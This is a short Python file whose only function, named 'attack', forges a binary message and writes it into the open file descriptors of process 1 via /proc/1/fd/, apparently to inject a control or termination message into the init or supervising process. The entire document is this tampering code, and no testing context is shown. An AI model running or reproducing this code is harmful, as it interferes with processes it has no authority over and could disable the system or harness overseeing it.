import os
import struct


def attack():
    end = struct.pack(">iIIIIiiII", 0, 0, 1, 1, 1, 0, 0, 0, 0)
    for descriptor in range(16):
        with open(f"/proc/1/fd/{descriptor}", "wb", 0) as file:
            file.write(struct.pack(">Ic", len(end) + 1, b"X") + end)
            return True
